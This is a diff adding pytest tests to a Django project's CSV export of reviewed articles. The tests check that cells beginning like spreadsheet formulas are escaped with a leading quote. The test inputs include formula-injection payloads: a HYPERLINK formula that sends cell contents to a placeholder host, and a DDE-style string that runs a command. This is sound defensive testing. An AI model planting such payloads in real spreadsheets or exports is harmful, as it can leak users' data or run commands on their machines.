@@ -14,6 +14,7 @@ from django.urls import reverse
 
 from articles import review
 from articles.quality import quality_report
+from marketpulse.spreadsheet import cell_protect
 
 pytestmark = pytest.mark.django_db
 
@@ -130,6 +131,53 @@ def test_export_csv_and_jsonl(make_article, tickers, reviewer, tmp_path):
     assert parsed[0]["text"] == hostile.text and parsed[0]["tickers"] == "GME TSLA"
     assert parsed[1]["reviewed_label"] == "neutral" and parsed[1]["model_label"] == "positive"
     assert [p.name for p in tmp_path.iterdir()] == ["reviews.csv"]  # no temp file left behind
+
+
+@pytest.mark.parametrize(
+    "title", ['=HYPERLINK("http://x.example/?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "'=SUM(1)"]
+)
+def test_export_csv_quotes_cells_a_spreadsheet_would_run(make_article, tickers, reviewer, tmp_path, title):
+    """A text cell starting like a formula gains a leading ' (issue 30 item 17); jsonl is untouched."""
+    article = make_article(["GME"], label="negative", title=title, body="")
+    review.review_mark(article_ids=[article.pk], label="positive", reviewer=reviewer)
+    target = tmp_path / "reviews.csv"
+    call_command("export_reviews", "--format", "csv", "--output", str(target), stdout=io.StringIO())
+    with target.open(newline="", encoding="utf-8") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["text"] == "'" + article.text
+    assert row["text"][1:] == article.text  # nothing else changed: one ' comes off
+    assert row["reviewed_label"] == "positive" and row["model_confidence"] == "0.9"
+    out = io.StringIO()
+    call_command("export_reviews", "--format", "jsonl", stdout=out, stderr=io.StringIO())
+    assert json.loads(out.getvalue())["text"] == article.text
+
+
+@pytest.mark.parametrize(
+    ("value", "shown"),
+    [
+        ("=1+1", "'=1+1"),
+        ("\t=cmd", "'\t=cmd"),
+        ("\rcmd", "'\rcmd"),
+        ("'=x", "''=x"),  # one more ' so dropping one gives the value back
+        ("''", "''"),
+        ("a=b", "a=b"),
+        ("", ""),
+        (-3.5, -3.5),
+        (None, None),
+    ],
+)
+def test_cell_protect(value, shown):
+    assert cell_protect(value) == shown
+
+
+def test_export_csv_leaves_plain_text_alone(make_article, tickers, reviewer, tmp_path):
+    article = make_article(["GME"], title="GME to the moon - 100 shares", body="", label="negative")
+    review.review_mark(article_ids=[article.pk], label="neutral", reviewer=reviewer)
+    target = tmp_path / "reviews.csv"
+    call_command("export_reviews", "--format", "csv", "--output", str(target), stdout=io.StringIO())
+    with target.open(newline="", encoding="utf-8") as fh:
+        (row,) = list(csv.DictReader(fh))
+    assert row["text"] == article.text
 
 
 def test_export_errors(tmp_path, db):
